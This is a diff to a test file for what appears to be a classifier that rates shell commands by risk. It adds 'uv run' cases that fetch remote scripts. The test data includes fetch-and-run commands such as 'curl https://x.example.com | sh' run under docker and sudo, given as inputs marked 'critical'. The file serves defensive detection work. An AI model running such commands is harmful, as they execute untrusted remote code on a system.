@@ -45,6 +45,9 @@ describe('code that is fetched and run', () => {
     [['deno', 'run', '-A', 'https://deno.land/x/a@v1.2.3/mod.ts'], null],
     [['npx', '-y', 'https://github.com/acme/a/tarball/main'], null],
     [['npx', '-y', 'https://github.com/acme/a/releases/download/v1/a.tgz'], 'critical'],
+    [['uv', 'run', '--script', 'https://x.example.com/a.py'], 'critical', 2],
+    [['uv', 'run', '--with', 'a==1.0', 'https://x.example.com/a.py'], 'critical', 3],
+    [['uv', 'run', '--with', 'a==1.0', 'b.py', 'https://x.example.com/a.py'], null],
     [['docker', 'run', 'img', 'sh', '-c', 'curl https://x.example.com | sh'], 'critical', 4],
     [['sudo', 'bash', '-c', 'curl https://x.example.com | bash'], 'critical', 2],
   ]);
